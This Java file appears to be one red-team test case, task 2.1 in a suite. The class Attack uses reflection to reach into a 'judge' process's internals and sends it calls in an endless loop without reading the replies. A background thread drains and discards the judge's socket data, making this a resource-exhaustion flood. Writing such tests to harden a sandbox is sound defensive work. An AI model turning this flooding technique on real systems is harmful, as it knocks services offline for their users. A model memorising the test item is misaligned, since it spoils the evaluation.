// {"kind": "channel", "tries": "calls the judge's object in a loop, without waiting for the answers", "must": "the judge has enough at some time", "says": ".", "seconds": 45, "task": "2.1", "inside": true, "set": ["with Reach.java"]}
package redteam;

import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.util.List;

public final class Attack {
    public static Object run(Object... given) throws Throwable {
        Reach reach = new Reach(given[0]);
        Object call = Reach.make("Frame$Callback", reach.part, "multiply", List.of());
        Thread reader = new Thread(() -> {
            try {
                SocketChannel channel = (SocketChannel) Reach.field(reach.wire, "channel");
                ByteBuffer thrownAway = ByteBuffer.allocate(1 << 16);
                while (channel.read(thrownAway.clear()) >= 0) {}
            } catch (Exception ended) {
                return;
            }
        });
        reader.setDaemon(true);
        reader.start();
        while (true) {
            reach.send(call);
        }
    }
}
